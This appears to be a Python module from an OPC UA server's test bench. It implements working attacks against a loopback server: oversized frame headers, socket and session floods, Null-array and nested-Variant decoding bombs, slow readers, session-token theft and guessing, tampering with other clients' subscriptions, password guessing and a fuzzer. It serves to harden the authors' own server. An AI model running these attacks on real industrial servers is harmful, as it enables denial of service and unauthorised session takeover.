"""What somebody can do to a server with a socket and bad manners; `python -m bench.opcua.attackers NAME PORT SCALE FOLDER PATH`.

Each attack prints how many of its attempts the server took and how many it refused, as JSON. Written for tests of our
own server; they work against any that listens on loopback.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import random
import resource
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Coroutine
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from asyncua import ua
from asyncua.ua.ua_binary import struct_to_binary

from bench.opcua.raw import Client

HOST: Final = "127.0.0.1"
SLOW_S: Final = 14.0  # so long a slow reader takes nothing
Found = Counter[str]


@dataclass(frozen=True)
class Target:
    """Who is attacked, and how much.

    Attributes:
        port: On loopback.
        scale: 1 for all of it.
        folder: Of the bench; takes files of the attacker.
        node: A variable that anybody may read.
    """

    port: int
    scale: float
    folder: Path
    node: ua.NodeId


Attack = Callable[[Target], Coroutine[Any, Any, Found]]


class Raw(Client):
    """As the bench's client; an error of the server ends it quietly, and it may hold back its steps."""

    ended = False

    def connection_lost(self, exc: Exception | None) -> None:
        """Called by asyncio."""
        self.ended = True
        super().connection_lost(exc)

    def _frame(self, kind: bytes, final: bytes, frame: bytes) -> None:
        if kind == b"ERR":
            self.ended = True
            return
        super()._frame(kind, final, frame)

    @classmethod
    async def channel(cls, port: int) -> Raw:
        """A channel without a session."""
        _, client = await asyncio.get_running_loop().create_connection(cls, HOST, port)
        async with asyncio.timeout(10):
            await client.open(f"opc.tcp://{HOST}:{port}")
        return client

    @classmethod
    async def active(cls, port: int) -> Raw:
        """A channel with an anonymous session."""
        client = await cls.channel(port)
        async with asyncio.timeout(10):
            await client.sign_in(f"opc.tcp://{HOST}:{port}")
        return client

    async def open(self, url: str) -> None:
        """Hello and a channel."""
        word = url.encode()
        hello = struct.pack("<5Ii", 0, 65_535, 65_535, 0, 0, len(word)) + word
        self._hello = asyncio.get_running_loop().create_future()
        self._write(b"HELF" + struct.pack("<I", 8 + len(hello)) + hello)
        await self._hello
        await self._open()

    async def sign_in(self, url: str) -> None:
        """A session."""
        await self._sign_in(url, "attacker")

    def chunk(self, kind: bytes, body: bytes, request: int) -> bytes:
        """The next chunk of this channel."""
        self._sequence += 1
        ids = struct.pack("<IIII", self._channel, self._token, self._sequence, request)
        return kind + struct.pack("<I", 24 + len(body)) + ids + body

    def write(self, data: bytes) -> None:
        """Any bytes."""
        self._write(data)

    def post(self, body: bytes) -> None:
        """A request whose answer nobody waits for."""
        self._post(body)

    @property
    def transport(self) -> asyncio.Transport:
        """Its socket."""
        assert self._transport is not None
        return self._transport

    async def ask(self, request: Any) -> int:
        """Sends a request; the service result."""
        request.RequestHeader.AuthenticationToken = self.authentication
        return await self.ask_bytes(struct_to_binary(request))

    async def ask_bytes(self, body: bytes) -> int:
        """As `ask`, encoded."""
        try:
            answer = await asyncio.wait_for(self.send(body), 60)
        except (ConnectionError, TimeoutError):
            return -1
        return int(struct.unpack_from("<I", answer, 4 + 8 + 4)[0])


async def _opened(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.wait_for(asyncio.open_connection(HOST, port), 5)


async def headers(at: Target) -> Found:
    """Headers that announce 2 GiB, and what fits of it."""
    found: Found = Counter()

    async def one(kind: bytes) -> None:
        try:
            reader, writer = await _opened(at.port)
            writer.write(kind + struct.pack("<I", 2**31 - 1))
            for _ in range(int(256 * at.scale)):
                writer.write(bytes(65_536))
                await asyncio.wait_for(writer.drain(), 5)
            while await asyncio.wait_for(reader.read(1000), 5):
                pass
            found["refused"] += 1
            writer.close()
        except TimeoutError:
            found["taken"] += 1
        except OSError:
            found["refused"] += 1

    for _ in range(max(1, int(20 * at.scale))):
        await asyncio.gather(*(one(kind) for kind in (b"HELF", b"MSGF", b"OPNF", b"MSGC")))
    return found


async def hoarding(at: Target) -> Found:
    """Intermediate chunks that never become a message, before anybody has signed in."""
    found: Found = Counter()

    async def one() -> None:
        client = await Raw.channel(at.port)
        for _ in range(int(1600 * at.scale)):
            if client.ended:
                found["refused"] += 1
                return
            client.write(client.chunk(b"MSGC", bytes(60_000), 77))
            await asyncio.sleep(0)
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(5):
                while not client.ended:  # noqa: ASYNC110 - it is told of the end through the same loop
                    await asyncio.sleep(0.05)
        found["refused" if client.ended else "taken"] += 1
        client.close()

    for _ in range(3):
        await asyncio.gather(*(one() for _ in range(8)), return_exceptions=True)
    return found


async def half_open(at: Target) -> Found:
    """Sockets on which nothing is said."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 4096)), hard))
    sockets = []
    found: Found = Counter()
    for number in range(int(3000 * at.scale)):
        try:
            sockets.append(socket.create_connection((HOST, at.port), 5))
        except OSError:
            found["refused"] += 1
        if number % 50 == 0:
            await asyncio.sleep(0.01)
    await asyncio.sleep(5)
    for its in sockets:
        its.setblocking(False)
        try:
            found["refused" if its.recv(1) == b"" else "taken"] += 1
        except BlockingIOError:
            found["taken"] += 1
        except OSError:
            found["refused"] += 1
        its.close()
    return found


async def sessions(at: Target) -> Found:
    """Sessions that are created and never activated, on a few channels."""
    found: Found = Counter()
    request = ua.CreateSessionRequest()
    request.Parameters.EndpointUrl = f"opc.tcp://{HOST}:{at.port}"
    request.Parameters.RequestedSessionTimeout = 3.6e6
    request.Parameters.ClientNonce = bytes(32)

    async def one(count: int) -> None:
        client = await Raw.channel(at.port)
        for _ in range(count):
            code = await client.ask(request)
            found["taken" if code == 0 else "refused"] += 1
            if code == -1:
                return
        client.close()

    await asyncio.gather(*(one(int(1000 * at.scale)) for _ in range(20)), return_exceptions=True)
    return found


async def subscriptions(at: Target) -> Found:
    """Subscriptions at 0.001 ms."""
    client = await Raw.active(at.port)
    found: Found = Counter()
    request = ua.CreateSubscriptionRequest()
    request.Parameters.RequestedPublishingInterval = 0.001
    request.Parameters.RequestedLifetimeCount = 2**32 - 1
    request.Parameters.RequestedMaxKeepAliveCount = 1
    request.Parameters.PublishingEnabled = True
    for _ in range(int(1000 * at.scale)):
        found["taken" if await client.ask(request) == 0 else "refused"] += 1
    client.publish(20)
    await asyncio.sleep(5 * at.scale)
    found["publishes"] = client.messages
    client.close()
    return found


async def items(at: Target) -> Found:
    """Monitored items with huge queues."""
    client = await Raw.active(at.port)
    found: Found = Counter()
    made = ua.CreateSubscriptionRequest()
    made.Parameters.RequestedPublishingInterval = 50
    made.Parameters.RequestedLifetimeCount = 10_000
    made.Parameters.RequestedMaxKeepAliveCount = 100
    made.Parameters.PublishingEnabled = True
    answer = await client.call(made, ua.CreateSubscriptionResponse)
    request = ua.CreateMonitoredItemsRequest()
    request.Parameters.SubscriptionId = answer.Parameters.SubscriptionId
    request.Parameters.TimestampsToReturn = ua.TimestampsToReturn.Both
    item = ua.MonitoredItemCreateRequest()
    item.ItemToMonitor = ua.ReadValueId(at.node, ua.AttributeIds.Value)
    item.MonitoringMode = ua.MonitoringMode.Reporting
    item.RequestedParameters.QueueSize = 2**32 - 1
    item.RequestedParameters.SamplingInterval = 0.0
    request.Parameters.ItemsToCreate = [item] * 10_000
    request.RequestHeader.AuthenticationToken = client.authentication
    body = struct_to_binary(request)
    for _ in range(max(1, int(20 * at.scale))):
        found["taken" if await client.ask_bytes(body) == 0 else "refused"] += 10_000
    await asyncio.sleep(5 * at.scale)  # nobody publishes: the queues fill
    client.close()
    return found


async def big_reads(at: Target) -> Found:
    """Reads of 200,000 nodes."""
    client = await Raw.active(at.port)
    found: Found = Counter()
    request = ua.ReadRequest()
    request.Parameters.NodesToRead = [ua.ReadValueId(ua.NodeId(2253), ua.AttributeIds.BrowseName)]
    request.RequestHeader.AuthenticationToken = client.authentication
    one = struct_to_binary(request)
    element = struct_to_binary(request.Parameters.NodesToRead[0])
    start = one[: -len(element) - 4]
    for count in (200_000, 60_000, 10_001, 10_000, 10_000, 10_000):
        for _ in range(max(1, int(5 * at.scale))):
            if client.ended:
                client = await Raw.active(at.port)
                request.RequestHeader.AuthenticationToken = client.authentication
                start = struct_to_binary(request)[: -len(element) - 4]
            code = await client.ask_bytes(start + struct.pack("<i", count) + element * count)
            found[f"{count} {'taken' if code == 0 else 'refused'}"] += 1
    client.close()
    return found


def _items_with(bomb: bytes, node: ua.NodeId, token: ua.NodeId) -> bytes:
    """A request that anybody with a session may make, with a Variant of these bytes in a filter."""
    request = ua.CreateMonitoredItemsRequest()
    item = ua.MonitoredItemCreateRequest(ItemToMonitor=ua.ReadValueId(node, ua.AttributeIds.Value))
    item.RequestedParameters.Filter = ua.LiteralOperand(ua.Variant(1.0))
    request.Parameters.ItemsToCreate = [item]
    request.RequestHeader.AuthenticationToken = token
    size, plain = struct.pack("<i", 9), b"\x0b" + struct.pack("<d", 1.0)
    body: bytes = struct_to_binary(request)
    return body.replace(size + plain, struct.pack("<i", len(bomb)) + bomb)


async def nulls(at: Target) -> Found:
    """Arrays of a hundred million Nulls, in a filter and, before any session, in a header."""
    found: Found = Counter()
    bomb = b"\x80" + struct.pack("<i", 100_000_000)
    body = _items_with(bomb, at.node, ua.NodeId())
    create = struct_to_binary(ua.CreateSessionRequest())
    extension = b"\x01\x00" + body[2:4] + b"\x01" + struct.pack("<i", len(body)) + body
    no_more = create.index(b"\0\0\0", 40)
    client = await Raw.active(at.port)
    stranger = await Raw.channel(at.port)
    for _ in range(int(100 * at.scale)):
        sent = _items_with(bomb, at.node, client.authentication)
        found["taken" if await client.ask_bytes(sent) == 0 else "refused"] += 1
        early = create[:no_more] + extension + create[no_more + 3 :]
        found["early taken" if await stranger.ask_bytes(early) == 0 else "early refused"] += 1
        if stranger.ended:
            stranger = await Raw.channel(at.port)
    client.close()
    stranger.close()
    return found


async def slow_readers(at: Target) -> Found:
    """Clients that ask for hundreds of megabytes and take nothing."""
    found: Found = Counter()

    async def one() -> None:
        client = await Raw.active(at.port)
        its = client.transport.get_extra_info("socket")
        its.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32_768)
        request = ua.ReadRequest()
        request.Parameters.NodesToRead = [ua.ReadValueId(at.node, ua.AttributeIds.Value)] * 10_000
        request.Parameters.TimestampsToReturn = ua.TimestampsToReturn.Both
        request.RequestHeader.AuthenticationToken = client.authentication
        body = struct_to_binary(request)
        client.transport.pause_reading()
        for _ in range(int(400 * at.scale)):
            if client.ended:
                break
            client.send(body).add_done_callback(lambda its: its.exception())
            await asyncio.sleep(0.005)
        await asyncio.sleep(SLOW_S)
        client.transport.resume_reading()  # what lies in the system's buffers, and then the end
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(5):
                while not client.ended:  # noqa: ASYNC110 - it is told of the end through the same loop
                    await asyncio.sleep(0.05)
        found["disconnected" if client.ended else "kept"] += 1
        client.close()

    await asyncio.gather(*(one() for _ in range(5)), return_exceptions=True)
    return found


async def publishes(at: Target) -> Found:
    """Publish requests as fast as they go."""
    client = await Raw.active(at.port)
    await client.subscribe([at.node], 100)
    request = ua.PublishRequest()
    request.RequestHeader.AuthenticationToken = client.authentication
    body = struct_to_binary(request)
    end = time.monotonic() + 10 * at.scale
    found: Found = Counter()
    while time.monotonic() < end and not client.ended:
        for _ in range(100):
            client.post(body)
            found["sent"] += 1
        await asyncio.sleep(0)
        while client.transport.get_write_buffer_size() > 65_536:  # noqa: ASYNC110 - asyncio tells protocols only
            await asyncio.sleep(0.001)
    found["refused"] = client.faults
    client.close()
    return found


async def stolen(at: Target) -> Found:
    """Tokens of another session, on an own channel: used and activated; and guessed ones."""
    victim, thief = await Raw.active(at.port), await Raw.active(at.port)
    stranger = await Raw.channel(at.port)
    found: Found = Counter()
    read = ua.ReadRequest()
    read.Parameters.NodesToRead = [ua.ReadValueId(at.node, ua.AttributeIds.Value)]
    for number in range(int(2000 * at.scale)):
        guess = random.Random(number).randbytes(32)
        for client in (thief, stranger):
            for token in (
                victim.authentication,
                ua.NodeId(guess, 0, ua.NodeIdType.ByteString),
                ua.NodeId(1000 + number),
            ):
                read.RequestHeader.AuthenticationToken = token
                code = await client.ask_bytes(struct_to_binary(read))
                found["taken" if code == 0 else "refused"] += 1
    read.RequestHeader.AuthenticationToken = victim.authentication
    found["victim lives"] += await victim.ask_bytes(struct_to_binary(read)) == 0
    for client in (victim, thief, stranger):
        client.close()
    return found


async def foreign(at: Target) -> Found:
    """Subscriptions of others, by their ids."""
    victim, thief = await Raw.active(at.port), await Raw.active(at.port)
    own = await victim.subscribe([at.node], 100)
    victim.publish()
    found: Found = Counter()
    delete, modify, mode = (
        ua.DeleteSubscriptionsRequest(),
        ua.ModifySubscriptionRequest(),
        ua.SetPublishingModeRequest(),
    )
    for number in [own, *range(1, int(500 * at.scale))]:
        delete.Parameters.SubscriptionIds = [number]
        mode.Parameters.SubscriptionIds = [number]
        modify.Parameters.SubscriptionId = number
        modify.Parameters.RequestedPublishingInterval = 1e6
        gone = await thief.call(delete, ua.DeleteSubscriptionsResponse)
        found["taken" if gone.Results[0].is_good() else "refused"] += 1
        quiet = await thief.call(mode, ua.SetPublishingModeResponse)
        found["taken" if quiet.Parameters.Results[0].is_good() else "refused"] += 1
        found["taken" if await thief.ask(modify) == 0 else "refused"] += 1
    before = victim.messages
    await asyncio.sleep(3)
    found["victim lives"] += not victim.ended and (victim.messages > before or victim.notifications > 0)
    victim.close()
    thief.close()
    return found


async def passwords(at: Target) -> Found:
    """Wrong passwords, over encrypted channels of an application that is trusted, as many as go in half a minute."""
    from asyncua.client import Client as Full  # noqa: PLC0415 - seconds of imports that the others do not need

    from tests.support.opcua_client import with_certificate  # noqa: PLC0415

    found: Found = Counter()
    end = time.monotonic() + 30 * at.scale

    folder, certs = at.folder / "attacker", at.folder / "plant" / "data" / "certs"
    folder.mkdir(exist_ok=True)
    url = f"opc.tcp://{HOST}:{at.port}"

    async def one(number: int) -> None:
        while time.monotonic() < end:
            client: Full = await with_certificate(url, folder, certs)
            try:
                await client.connect_socket()
                await client.send_hello()
                await client.open_secure_channel()
                await client.create_session()
                while time.monotonic() < end:
                    try:
                        await client.activate_session(
                            username="operator", password=f"guess {number} {found.total()}"
                        )
                        found["taken"] += 1
                    except ua.UaStatusCodeError:
                        found["refused"] += 1
            except Exception:  # noqa: BLE001 - the server ends it: once more
                found["disconnected"] += 1
                await asyncio.sleep(0.05)
            finally:
                with contextlib.suppress(Exception):
                    client.disconnect_socket()

    await asyncio.gather(*(one(number) for number in range(5)))
    return found


async def nested(at: Target) -> Found:
    """Variants in Variants, ExtensionObjects in ExtensionObjects, thousands deep."""
    client = await Raw.active(at.port)
    found: Found = Counter()
    deep = b"\x98\x01\x00\x00\x00" * 10_000 + b"\x01\x01"
    inner = b"\x01\x01"
    for _ in range(3000):
        inner = b"\x16\x01\x00\x55\x02\x01" + struct.pack("<i", len(inner)) + inner
    wide = b"\x98" + struct.pack("<i", 60_000) + b"\x98\x01\x00\x00\x00\x00" * 60_000
    for _ in range(int(100 * at.scale)):
        for bomb in (deep, inner, wide):
            sent = _items_with(bomb, at.node, client.authentication)
            found["taken" if await client.ask_bytes(sent) == 0 else "refused"] += 1
            if client.ended:
                client = await Raw.active(at.port)
    client.close()
    return found


def _seeds() -> list[bytes]:
    from tests.opcua.wire.test_decode import requests  # noqa: PLC0415 - it has one of each kind

    return [struct_to_binary(request) for request in requests()]


async def fuzz(at: Target) -> Found:
    """Mutated requests on a valid channel."""
    its = random.Random(6)
    seeds = _seeds()
    found: Found = Counter()
    client = await Raw.active(at.port)
    waiting: list[asyncio.Future[bytes]] = []
    for number in range(int(200_000 * at.scale)):
        if client.ended:
            found["connections"] += 1
            client.close()
            client = await Raw.active(at.port)
        body = bytearray(its.choice(seeds))
        token = client.authentication.Identifier
        body = bytearray(bytes(body).replace(b"t" * 32, token))
        for _ in range(its.choice((1, 1, 2, 5))):
            place = its.randrange(len(body))
            what = its.randrange(4)
            if what == 0:
                body[place] = its.randrange(256)
            elif what == 1:
                body[place : place + 4] = struct.pack(
                    "<i", its.choice((-1, -2, 0, 2**31 - 1, 100_000, 65_536))
                )
            elif what == 2:
                del body[place : place + its.randrange(9)]
            else:
                body[place:place] = its.randbytes(its.randrange(9))
            if not body:
                body = bytearray(b"\0")
        if its.random() < 0.05:  # the chunk itself
            chunk = bytearray(client.chunk(b"MSGF", bytes(body), 1))
            chunk[its.randrange(24)] = its.randrange(256)
            client.write(bytes(chunk))
            await asyncio.sleep(0.002)  # it ends, or waits for the rest of what it took for a longer chunk
            client.transport.abort()
            client.ended = True
            found["chunks"] += 1
            continue
        answer = client.send(bytes(body))
        answer.add_done_callback(lambda done: done.cancelled() or done.exception())
        waiting.append(answer)
        found["sent"] += 1
        if number % 50 == 49:
            _, late = await asyncio.wait(waiting, timeout=0.5)
            found["unanswered"] += len(late)  # Publish requests wait for what there is to publish
            waiting.clear()
    client.close()
    return found


ATTACKS: Final[dict[str, tuple[Attack, str]]] = {
    "headers": (headers, "2 GiB frame headers"),
    "hoarding": (hoarding, "chunk hoarding before login"),
    "half_open": (half_open, "3,000 half-open sockets"),
    "sessions": (sessions, "20,000 sessions never activated"),
    "subscriptions": (subscriptions, "1,000 subscriptions at 0.001 ms"),
    "items": (items, "200,000 monitored items with huge queues"),
    "big_reads": (big_reads, "Read of 200,000 nodes"),
    "nulls": (nulls, "Null-type array of 100 M elements"),
    "slow_readers": (slow_readers, "slow readers"),
    "publishes": (publishes, "publish flood"),
    "stolen": (stolen, "stolen session tokens"),
    "foreign": (foreign, "foreign subscription ids"),
    "passwords": (passwords, "wrong passwords"),
    "nested": (nested, "nested variants"),
    "fuzz": (fuzz, "200,000 fuzzed messages on a valid channel"),
}


def main() -> None:
    """One attack."""
    name, port, scale, folder, path = sys.argv[1:]
    target = Target(int(port), float(scale), Path(folder), ua.NodeId(path, 2))
    print(json.dumps(dict(asyncio.run(ATTACKS[name][0](target)))))


if __name__ == "__main__":
    main()
